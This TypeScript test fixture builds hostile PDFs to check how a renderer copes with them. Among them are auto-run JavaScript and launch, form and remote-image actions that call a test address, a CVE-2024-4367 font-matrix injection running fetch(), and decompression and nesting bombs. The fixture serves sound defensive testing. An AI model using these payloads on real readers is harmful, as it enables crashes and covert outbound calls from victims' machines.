// PDF files that no program makes, and what must become of each.

import { bomb, type Extras, pdf } from './pdf.js';

/** Drawn; drawn with a word that not all of it is; or the text that says why not. */
export type Outcome = 'whole' | 'parts' | 'pdf_broken' | 'pdf_costly' | 'pdf_password';

/** One of them. */
export interface HostilePdf {
  readonly what: string;
  readonly octets: () => Buffer;
  /** One of these: what ends by its size on one machine may end by the time on a slower one. */
  readonly outcomes: readonly Outcome[];
  /** How many pages it is shown to have. */
  readonly pages?: number;
}

/** Fills the upper half of an A5 page with a colour, and writes a line below. */
export const half = (colour: string, words: string): string =>
  `${colour} rg 0 300 420 295 re f 0 0 0 rg BT /F1 24 Tf 40 200 Td (${words}) Tj ET`;

const page = half('1 0 0', 'x');
const one = (extras: Extras, content = page): Buffer => pdf([content], extras);

/** Everything that a PDF can do by itself or on a click, each to an address below `url`. */
const calling = (url: string): Extras => ({
  objects: (file) => {
    const script = `(app.launchURL\\("${url}/js"\\); this.submitForm\\("${url}/js-form"\\);)`;
    const uri = `<< /S /URI /URI (${url}/uri) >>`;
    const actions = [
      `<< /S /JavaScript /JS ${script} /Next ${uri} >>`,
      `<< /S /Launch /F << /FS /URL /F (${url}/launch) >> >>`,
      `<< /S /GoToR /F << /FS /URL /F (${url}/goto) >> /D [0 /Fit] >>`,
      `<< /S /SubmitForm /F << /FS /URL /F (${url}/form) >> >>`,
      `<< /S /ImportData /F << /FS /URL /F (${url}/data) >> >>`,
    ];
    const link = (action: string): string => `<< /Type /Annot /Subtype /Link /Rect [0 0 420 595] /A ${action} >>`;
    const picture = `<< /Type /XObject /Subtype /Image /Width 1 /Height 1 /ColorSpace /DeviceGray /BitsPerComponent 8 /F << /FS /URL /F (${url}/picture) >> /Length 0 >>`;
    const image = file.add(`${picture}\nstream\n\nendstream`);
    const xfa = file.stream(
      `<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template xmlns="http://www.xfa.org/schema/xfa-template/3.3/"><subform><draw><value><image href="${url}/xfa"/></value></draw></subform></template></xdp:xdp>`,
    );
    const field = `<< /Type /Annot /Subtype /Widget /FT /Tx /T (a) /V (b) /Rect [0 0 9 9] /AA << /K ${actions[0]} /V ${actions[0]} >> >>`;
    return {
      catalogue: `/OpenAction ${actions[0]} /AA << /WC ${actions[0]} >> /URI << /Base (${url}/) >> /AcroForm << /XFA ${xfa} /Fields [${field}] /NeedAppearances true >>`,
      page: `/AA << /O ${uri} >> /Annots [${actions.map(link).join(' ')} ${field}]`,
      resources: `/XObject << /X1 ${image} >>`,
    };
  },
});

/** Forms that draw others ten times, these others ten times, and so on: 10 to the 8th power of squares. */
const nested: Extras = {
  objects: (file) => {
    const box = '/Type /XObject /Subtype /Form /BBox [0 0 420 595]';
    let inner = file.stream('0 0 1 1 re f '.repeat(10), box);
    for (let level = 0; level < 8; level++) {
      inner = file.stream('/X1 Do '.repeat(10), `${box} /Resources << /XObject << /X1 ${inner} >> >>`);
    }
    return { resources: `/XObject << /X1 ${inner} >>` };
  },
};

/** A gradient over the whole page. */
export const SHADING: Extras = {
  resources:
    '/Shading << /S1 << /ShadingType 2 /ColorSpace /DeviceRGB /Coords [0 0 420 595] /Extend [true true] /Function << /FunctionType 2 /Domain [0 1] /N 1 /C0 [1 0 0] /C1 [0 0 1] >> >> >>',
};

/** A picture that says to be very large, and whose few octets are unpacked to as much. */
const picture: Extras = {
  objects: (file) => {
    const image = file.stream(
      bomb('\0', 1_000_000_000),
      '/Type /XObject /Subtype /Image /Width 60000 /Height 60000 /ColorSpace /DeviceRGB /BitsPerComponent 8 /Filter [/FlateDecode /FlateDecode]',
    );
    return { resources: `/XObject << /X1 ${image} >>` };
  },
};

/** A pattern that is repeated every millionth part of a point. */
const pattern: Extras = {
  objects: (file) => {
    const tile = file.stream(
      '0 0 1 rg 0 0 1 1 re f',
      '/Type /Pattern /PatternType 1 /PaintType 1 /TilingType 1 /BBox [0 0 1 1] /XStep 0.000001 /YStep 0.000001 /Resources << >>',
    );
    return { resources: `/Pattern << /P1 ${tile} >>` };
  },
};

/** A font whose matrix holds code, as pdf.js once ran it (CVE-2024-4367). */
const fontMatrix = (url: string): Extras => ({
  objects: (file) => {
    const code = `(1\\); fetch\\("${url}/font"\\); \\(1)`;
    const glyph = file.stream('1000 0 0 0 750 750 d1 0 0 750 750 re f');
    const font = `<< /Type /Font /Subtype /Type3 /FontBBox [0 0 750 750] /FontMatrix [0.001 0 0 0.001 0 ${code}] /CharProcs << /a ${glyph} >> /Encoding << /Type /Encoding /Differences [97 /a] >> /FirstChar 97 /LastChar 97 /Widths [1000] >>`;
    const broken = file.stream('%!PS-AdobeFont-1.0 /FontMatrix [1 0 0 1 0 0', '/Length1 40 /Length2 0 /Length3 0');
    const descriptor = `<< /Type /FontDescriptor /FontName /Evil /Flags 4 /FontBBox [0 0 1 1] /ItalicAngle 0 /Ascent 1 /Descent 0 /CapHeight 1 /StemV 1 /FontFile ${broken} >>`;
    return {
      resources: `/Font << /F1 << /Type /Font /Subtype /Type1 /BaseFont /Evil /FontDescriptor ${descriptor} /FontMatrix [1 0 0 1 0 ${code}] >> /F3 ${font} >>`,
    };
  },
});

/** A font for Japanese by name only, with an encoding that only a table could explain. */
const japanese: Extras = {
  resources:
    '/Font << /F1 << /Type /Font /Subtype /Type0 /BaseFont /Ryumin-Light /Encoding /90ms-RKSJ-H /DescendantFonts [<< /Type /Font /Subtype /CIDFontType0 /BaseFont /Ryumin-Light /CIDSystemInfo << /Registry (Adobe) /Ordering (Japan1) /Supplement 2 >> /FontDescriptor << /Type /FontDescriptor /FontName /Ryumin-Light /Flags 4 /FontBBox [0 0 1 1] /ItalicAngle 0 /Ascent 1 /Descent 0 /CapHeight 1 /StemV 1 >> >>] >> >>',
};

const key = (letter: string): string => `<${letter.repeat(64)}>`;

/** All of them; what they call is below `url`. */
export const hostilePdfs = (url: string): HostilePdf[] => [
  {
    what: 'actions, forms, XFA and pictures of elsewhere',
    octets: () => one(calling(url), `${page} /X1 Do`),
    outcomes: ['whole', 'parts'],
  },
  {
    what: 'code in the matrix of a font',
    octets: () => one(fontMatrix(url), `${page} BT /F3 9 Tf (aaa) Tj ET`),
    outcomes: ['whole'],
  },
  {
    what: 'a page as large as a country',
    octets: () => one({ box: '0 0 1000000000 1000000000' }),
    outcomes: ['whole'],
  },
  { what: 'a page like a thread', octets: () => one({ box: '0 0 2 14000' }), outcomes: ['whole'] },
  {
    what: '10,001 pages',
    octets: () => pdf(Array.from({ length: 10_001 }, () => page)),
    outcomes: ['whole'],
    pages: 10_000,
  },
  {
    what: 'one page that is said to be two thousand million',
    octets: () => one({ count: 2_000_000_000 }),
    outcomes: ['whole'],
  },
  {
    what: 'a content that is unpacked to 4 GB',
    octets: () => pdf([bomb('q Q\n', 4_000_000_000)]),
    outcomes: ['pdf_costly'],
  },
  {
    what: 'a line without end',
    octets: () => pdf([bomb('1 1 l\n', 4_000_000_000)]),
    outcomes: ['parts', 'pdf_costly'],
  },
  {
    what: 'a list without end',
    octets: () => pdf([bomb('1 ', 4_000_000_000, '[')]),
    outcomes: ['parts', 'pdf_costly'],
  },
  // Three times as many, and V8 ends the process.
  ...Object.entries({ text: ['x', '('], name: ['x', '/'], 'text in hex': ['7', '<'] }).map(
    ([what, [sign = '', start]]) => ({
      what: `a page and a ${what} of 40 million characters`,
      octets: () => pdf([bomb(sign, what === 'text in hex' ? 80_000_000 : 40_000_000, `${page} ${start}`)]),
      outcomes: ['parts', 'pdf_costly'] as const,
    }),
  ),
  { what: 'forms in forms in forms', octets: () => one(nested, '/X1 Do'), outcomes: ['pdf_costly'] },
  {
    what: 'a picture of 60,000 by 60,000',
    octets: () => one(picture, `${page} 400 0 0 200 0 0 cm /X1 Do`),
    outcomes: ['parts'],
  },
  {
    what: 'a pattern with no steps',
    octets: () => one(pattern, `${page} /Pattern cs /P1 scn 0 0 420 295 re f`),
    outcomes: ['whole', 'parts'],
  },
  { what: 'Japanese by name', octets: () => one(japanese, half('1 0 0', '\\202\\240\\202\\242')), outcomes: ['parts'] },
  {
    what: 'nothing but a beginning',
    octets: () => Buffer.from(`%PDF-1.7\n${'x'.repeat(5_000)}`),
    outcomes: ['pdf_broken'],
  },
  {
    what: 'a password of its own',
    octets: () =>
      one({
        trailer: `/ID [${key('1')} ${key('1')}] /Encrypt << /Filter /Standard /V 1 /R 2 /P -4 /O ${key('2')} /U ${key('3')} >>`,
      }),
    outcomes: ['pdf_password'],
  },
];
